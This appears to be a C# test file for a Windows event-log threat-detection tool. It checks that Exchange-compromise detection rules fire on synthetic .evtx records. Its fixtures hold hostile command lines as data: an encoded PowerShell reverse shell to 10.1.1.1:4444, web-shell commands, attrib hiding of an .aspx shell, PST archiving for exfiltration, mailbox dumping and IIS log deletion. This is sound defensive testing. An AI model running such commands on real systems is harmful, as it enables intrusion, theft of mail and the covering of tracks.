using System.Text;
using Exhunt.Readers;
using Exhunt.Readers.Evtx;
using Exhunt.Tests.Evtx;
using static Exhunt.Tests.Events.EventFixtures;

namespace Exhunt.Tests.Events;

/// <summary>
/// The rules with no public .evtx sample, on events written as .evtx the way their logs write them (manifest events:
/// named &lt;Data Name=".."&gt;; classic Application events: unnamed &lt;Data&gt;) and read back by OUR reader: the
/// reader's output must fire exactly as the in-memory fixture does.
/// </summary>
public class EvtxRoundTripRuleTests
{
    private const string W3wp = @"C:\Windows\System32\inetsrv\w3wp.exe";
    private const string Cmd = @"C:\Windows\System32\cmd.exe";
    private const string UmWorker = @"C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe";
    private const string OwaPool = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -a \\\\.\\pipe\\iisipm1 -h \"C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config\" -w \"\" -m 0";

    private static void Template(BinXmlWriter w) =>
        w.Element("Event", e => e
            .Element("System", s => s
                .Element("Provider", null, ("Name", a => a.Sub(0, 0x01, true)))
                .Element("EventID", c => c.Sub(1, 0x06))
                .Element("Level", c => c.Sub(2, 0x04, true))
                .Element("TimeCreated", null, ("SystemTime", a => a.Sub(3, 0x11, true)))
                .Element("EventRecordID", c => c.Sub(4, 0x0A, true))
                .Element("Channel", c => c.Sub(5, 0x01, true))
                .Element("Computer", c => c.Sub(6, 0x01, true)))
            .Sub(7, 0x21, true),
            ("xmlns", a => a.Text(EvtxSamples.Ns)));

    /// <summary>Writes <paramref name="e"/> as a one-record .evtx: "DataN" keys become unnamed &lt;Data&gt;, others named.</summary>
    private static byte[] ToEvtx(WinEvent e)
    {
        var data = e.Data.Select(d => (IsUnnamed(d.Key) ? null : d.Key, d.Value)).ToArray();
        var b = new EvtxBuilder();
        b.Chunk().Record(1, w => w.Fragment().Template("event", Template,
            V.Str(e.Provider), V.U16((ushort)e.EventId), V.U8((byte)(e.Level ?? 4)), V.FileTime(e.TimeCreated!.Value), V.U64(e.RecordId ?? 1),
            V.Str(e.Channel), V.Str(e.Computer ?? ""), EvtxSamples.EventData(data)).Eof());
        return b.Build();
    }

    private static bool IsUnnamed(string key) => key.StartsWith("Data", StringComparison.Ordinal) && key.Length > 4 && key[4..].All(char.IsAsciiDigit);

    public static TheoryData<string, string> Cases => new()
    {
        { "umworker-cmd", "evt-proc-umworker-child" },
        { "chopper-exchange-pool", "evt-proc-chopper" },
        { "w3wp-cmd-exchange-pool", "evt-proc-w3wp-shell" },
        { "hafnium-attrib", "evt-proc-hafnium-tradecraft" },
        { "reverse-shell", "evt-proc-reverse-shell" },
        { "7zip-programdata", "evt-proc-7zip-programdata" },
        { "exchange-snapin", "evt-proc-exchange-snapin" },
        { "umworker-write", "evt-file-umworker-write" },
        { "mailbox-replication-page", "evt-file-webshell-write" },
        { "explorer-page", "evt-file-page-write-other" },
        { "log-deleted", "evt-defense-log-deleted" },
        { "um-invalid-cast", "evt-um-26857-invalidcast" },
        { "um-watson", "evt-um-26857-gadget-watson" },
        { "um-service-error", "evt-um-worker-error" },
        { "defender-exmann", "evt-defender-exchange-exploit" },
        { "defender-dumplsass", "evt-defender-lsass-dump" },
    };

    private static WinEvent Fixture(string name) => name switch
    {
        "umworker-cmd" => Sysmon1(Cmd, "cmd.exe /c powershell -ep bypass -c iex(gc c:\\programdata\\a.txt)", UmWorker),
        "chopper-exchange-pool" => Sysmon1(Cmd, "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\"&whoami&echo [S]&cd&echo [E]\"", W3wp, OwaPool),
        "w3wp-cmd-exchange-pool" => Sysmon1(Cmd, "cmd /c whoami", W3wp, OwaPool),
        "hafnium-attrib" => Sysmon1(@"C:\Windows\System32\attrib.exe", @"attrib +h +s +r C:\inetpub\wwwroot\aspnet_client\system_web\discover.aspx", @"C:\Windows\explorer.exe"),
        "reverse-shell" => Sysmon1(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -e " + Convert.ToBase64String(Encoding.Unicode.GetBytes("$c = New-Object Net.Sockets.TCPClient('10.1.1.1',4444);$s=$c.GetStream();iex (New-Object IO.StreamReader($s)).ReadLine()")), @"C:\Windows\explorer.exe"),
        "7zip-programdata" => Sysmon1(@"C:\Program Files\7-Zip\7z.exe", @"7z.exe a -t7z -r C:\ProgramData\it.zip C:\ProgramData\pst\*.pst", @"C:\Windows\explorer.exe"),
        "exchange-snapin" => Sysmon1(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -command \"Add-PSSnapin Microsoft.Exchange.Powershell.Snapin;Get-Mailbox -ResultSize Unlimited | Select DisplayName\"", @"C:\Windows\explorer.exe"),
        "umworker-write" => Sysmon11(UmWorker, @"C:\Windows\Temp\x.bat"),
        "mailbox-replication-page" => Sysmon11(@"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe", @"C:\ProgramData\COM1\689193944.aspx"),
        "explorer-page" => Sysmon11(@"C:\Windows\explorer.exe", @"C:\inetpub\wwwroot\aspnet_client\system_web\test.aspx"),
        "log-deleted" => Sysmon(23, ("Image", Cmd), ("TargetFilename", @"C:\inetpub\logs\LogFiles\W3SVC1\u_ex210303.log"), ("User", @"CONTOSO\admin")),
        "um-invalid-cast" => Event("MSExchange Unified Messaging", "Application", 1001, 2,
            ("Data1", "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider'.")),
        "um-watson" => Event("MSExchange Common", "Application", 4999, 2, ("Data1",
            "Watson report about to be sent for process id: 9876, with parameters: E12IIS, c-RTL-AMD64, 15.01.2106.002, UMWorkerProcess, Microsoft.Exchange.UM.UMCore, M.E.UM.UMCore.PipelineDispatcher.Dispatch, System.InvalidCastException, Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, 15.01.2106.002.")),
        "um-service-error" => Event("MSExchange Unified Messaging", "Application", 1400, 2, ("Data1", "The Microsoft Exchange Unified Messaging service failed to process a call.")),
        "defender-exmann" => Defender(1117, "Exploit:Script/Exmann.A!dha", @"file:_C:\Windows\Temp\a.txt"),
        "defender-dumplsass" => Defender(1116, "Behavior:Win32/DumpLsass.A!attk", @"behavior:_process: C:\Windows\System32\rundll32.exe"),
        _ => throw new ArgumentException(name),
    };

    private static WinEvent Defender(int id, string threat, string path) =>
        Event("Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational", id, 3,
            ("Product Name", "Microsoft Defender Antivirus"), ("Threat Name", threat), ("Severity Name", "Severe"), ("Category Name", "Backdoor"),
            ("Path", path), ("Detection User", @"NT AUTHORITY\SYSTEM"), ("Process Name", @"C:\Windows\System32\inetsrv\w3wp.exe"), ("Action Name", "Quarantine"));

    [Theory]
    [MemberData(nameof(Cases))]
    public void Rule_fires_on_what_our_reader_reads_back(string fixture, string ruleId)
    {
        var original = Fixture(fixture);
        var events = ManagementEvtx.Read(ToEvtx(original));
        var (read, _) = Assert.Single(events);
        Assert.Equal(original.Data.Select(d => (d.Key, d.Value)), read.Data.Select(d => (d.Key, d.Value)));
        var fromFile = ManagementEvtx.Detect(events);
        Assert.Contains(fromFile, f => f.Rule.Id == ruleId);
        Assert.Equal(Ids(original).Order(), fromFile.Select(f => f.Rule.Id).Order());
        Assert.All(fromFile, f => Assert.Equal("EX01.contoso.local", f.Host));
    }
}
